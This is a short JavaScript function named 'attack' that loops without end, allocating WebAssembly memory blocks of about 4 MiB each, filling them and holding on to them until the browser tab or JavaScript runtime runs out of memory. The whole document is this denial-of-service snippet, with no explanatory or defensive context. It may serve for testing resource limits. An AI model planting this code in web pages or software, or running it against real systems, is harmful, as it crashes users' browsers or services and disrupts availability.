function attack() {
  const held = [];
  for (;;) {
    const memory = new WebAssembly.Memory({ initial: 64 });
    new Uint8Array(memory.buffer).fill(1);
    held.push(memory);
  }
}
